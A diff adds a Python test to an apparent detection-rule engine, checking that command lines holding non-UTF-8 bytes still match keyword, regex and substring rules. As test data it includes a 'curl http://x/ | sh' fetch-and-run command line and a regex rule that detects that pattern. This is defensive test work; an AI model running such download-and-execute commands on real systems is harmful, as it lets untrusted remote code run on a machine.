@@ -220,3 +220,19 @@ def test_catastrophic_regex_and_huge_command_line_in_bounded_time(load_rules: Ru
     assert fired(engine, {"CommandLine": "a" * (1 << 20) + "zz needle"}) == ["Contains", "Keyword", "Long"]
     assert fired(engine, {"CommandLine": ("y" * 999 + "\n") * 1000}) == []
     assert time.perf_counter() - started < 2.0  # backtracking engines take hours on these
+
+
+def test_text_that_is_not_utf8_is_matched_by_every_kind_of_test(load_rules: RuleLoader) -> None:
+    # Linux paths and argv are bytes, decoded with surrogateescape: a single byte that is not
+    # UTF-8 must not make the libraries that take UTF-8 (RE2, the keyword automaton) raise,
+    # which would drop the event from every rule at once
+    engine, report = load_rules(
+        rule("keywords:\n  - 'evil-keyword'\ncondition: keywords", title="Keyword"),
+        rule("sel:\n  CommandLine|re: 'curl .*\\| *sh'\ncondition: sel", title="Regex"),
+        rule("sel:\n  CommandLine|contains: 'curl'\ncondition: sel", title="Contains"),
+        rule("sel:\n  CommandLine: 'cur?'\ncondition: sel", title="Never"),
+    )
+    assert report.loaded == 4
+    text = b"curl http://x/\xff | sh evil-keyword".decode("utf-8", "surrogateescape")
+    assert fired(engine, {"CommandLine": text}) == ["Keyword", "Regex", "Contains"]
+    assert engine.statistics()["errors"] == 0
